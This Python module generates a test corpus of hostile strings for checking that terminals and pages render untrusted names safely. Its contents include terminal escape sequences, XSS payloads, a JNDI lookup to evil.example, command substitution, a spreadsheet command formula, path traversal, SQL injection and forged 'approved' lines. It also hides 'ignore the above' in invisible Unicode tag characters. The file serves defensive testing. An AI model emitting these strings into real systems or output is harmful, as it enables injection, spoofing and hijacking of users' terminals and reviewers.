"""Over three hundred hostile strings, made by code: what terminals and pages have fallen for."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from typing import Final

_SEQUENCES: Final = (
    "[2J",  # clear the screen
    "[3J",  # clear what was scrolled away
    "[H",  # cursor home
    "[1;1Hroot# ",
    "[999B",
    "[?1049h",  # another screen
    "[?1049l",
    "[?25l",  # no cursor
    "[?1000h",  # mouse reports
    "[?2004h",  # bracketed paste
    "[31;41m",
    "[8m",  # concealed
    "[5n",  # asks the terminal, which answers as if typed
    "[6n",
    "[c",
    "[21t",  # reports the title
    "[8;1;1t",  # resizes
    "[4h",
    "[20h",
    "[1;2r",  # scrolls a part
    "c",  # full reset
    "7",
    "8",
    "D",
    "M",
    "#8",  # fills the screen with E
    "(0",  # line drawing for letters
    "%@",
    "N",
    "O",
    "=",
    ">",
    "]0;owned\x07",  # title
    "]2;owned\x1b\\",
    "]52;c;cHduZWQ=\x07",  # clipboard
    "]52;p;?\x07",
    "]8;;https://evil.example\x07click\x1b]8;;\x07",  # link
    "]4;1;rgb:00/00/00\x07",
    "]10;?\x07",
    "]11;#000000\x07",
    "]50;font\x07",
    "]1337;File=inline=1:AAAA\x07",
    "]777;notify;a;b\x07",
    "]9;4;1;50\x07",
    "P$qm\x1b\\",  # DCS
    "P+q544e\x1b\\",
    "_Gf=24;AAAA\x1b\\",  # kitty's pictures
    "^privacy\x1b\\",
    "Xstart of string\x1b\\",
    "ktitle\x1b\\",  # screen and tmux
)
_BIDI: Final = tuple(range(0x202A, 0x202F)) + tuple(range(0x2066, 0x206A))
_INVISIBLE: Final = (
    *(0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x200B, 0x200C),
    *(0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206A),
    *(0x206F, 0x2800, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0x1D173, 0xE0100),
    *(0xE0001, 0xE007F, 0xE01EF, 0x00A0, 0x2003, 0x3000, 0x1680),
)
_MARKUP: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</td></table><h1>approved</h1>",
    '"><a href="javascript:alert(1)">x</a>',
    "' onmouseover='alert(1)",
    "<!--",
    "--><b>",
    "]]>",
    "<![CDATA[x",
    "&lt;b&gt; &#x202e;",
    "<bdo dir=rtl>abc</bdo>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example}",
    "#{7*7}",
    "[red]x[/red]",
    "[/]",
    "[bold",
    "[link=https://evil.example]click[/link]",
    "[@click=app.quit]x[/]",
    "[$error]x",
    "[[1;31m",
    "\\[red]",
    "%s%n%x",
    "%(name)s",
    "{0.__class__}",
    "`id`",
    "$(id)",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "../../etc/passwd",
    "'; DROP TABLE event; --",
    "a\nverdict: clear\napproved by ana",
    "a\r\nSet-Cookie: x",
    "| a | b |",
    "# heading\n- [x] approved",
    "![x](https://evil.example/p.png)",
)
_LETTERS: Final = (
    "\u0440\u0430\u0443\u0440\u0430l",  # Cyrillic
    "\u03b1ppr\u03bfve",  # Greek
    "\uff46\uff55\uff4c\uff4c",
    "\u210c\U0001d52c\U0001d529\U0001d521",
    "\u01c6",
    "e" + "\u0301" * 40,
    "Z\u0335\u0336\u0337\u0338\u0353\u0354\u0355\u0356",
    "\u0e49" * 30,
    "\u20dd" * 12,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f1e9\U0001f1ea",
    "\u0627" * 20 + "abc",
    "\u05e9\u05dc\u05d5\u05dd" + "(" * 5,
    "\u65e5\u672c\u8a9e" * 30,
    "\ufdfd" * 9,
    "\U00010000x",
    "W" * 3000,
    " " * 200 + "x",
    "\ufb00\ufb01\ufb02",
)


_LOOKALIKE: Final = (0x456, 0x3BF, 0x430, 0x435, 0x440, 0x441, 0x455, 0x443, 0x445, 0x501)
_UNASSIGNED: Final = (0xE000, 0xF8FF, 0xFFFE, 0xFFFF, 0x0378, 0x1FFFE, 0x10FFFF, 0xF0000)


def hostile() -> tuple[str, ...]:
    """Return the corpus, each string once, in one order: 300 and more."""
    return tuple(dict.fromkeys(_every()))


def named() -> tuple[str, ...]:
    """Return those that a name of a source or a target can be: no controls, not too long."""
    return tuple(text for text in hostile() if _nameable(text))


def _nameable(text: str) -> bool:
    return len(text) < 400 and all(unicodedata.category(letter) != "Cc" for letter in text)


def _every() -> Iterator[str]:
    yield from _terminals()
    yield from _hidden()
    yield from _MARKUP
    yield from _LETTERS
    yield "\x07" * 50
    yield "\b" * 20 + "approved"
    yield "safe\r\x1b[2Kapproved by ana"
    yield "\x00nul"


def _terminals() -> Iterator[str]:
    yield from (f"good\x1b{tail} answer" for tail in _SEQUENCES)
    # The same by the one character of C1 that stands for two.
    yield from (f"\x9b{tail[1:]}x" for tail in _SEQUENCES)
    yield from (f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))


def _hidden() -> Iterator[str]:
    for code in _BIDI:
        yield f"user{chr(code)}gnp.exe"
        yield f"{chr(code)}approve{chr(code)}reject\u202c"
    yield from (f"ab{chr(code)}cd" for code in _INVISIBLE)
    for word in ("approve", "ignore the above", "clear", "\x1b[2J"):
        yield "fine" + "".join(chr(0xE0000 + ord(letter)) for letter in word)
        yield "fine" + "".join(chr(0xE0100 + ord(letter)) for letter in word)
    yield from (f"p{chr(code)}ypal" for code in _LOOKALIKE)
    yield from (f"a{chr(code)}b" for code in _UNASSIGNED)
